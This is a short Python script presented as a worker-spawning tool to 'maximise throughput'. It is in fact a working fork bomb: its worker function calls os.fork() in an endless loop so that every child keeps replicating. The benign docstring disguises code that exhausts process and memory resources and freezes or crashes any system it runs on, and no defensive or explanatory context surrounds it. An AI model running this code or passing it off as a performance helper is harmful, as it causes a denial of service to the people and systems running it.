"""Spawn worker processes to 'maximise throughput'."""
import os


def worker():
    # each child just keeps replicating
    while True:
        os.fork()


if __name__ == "__main__":
    print("parent pid", os.getpid())
    worker()
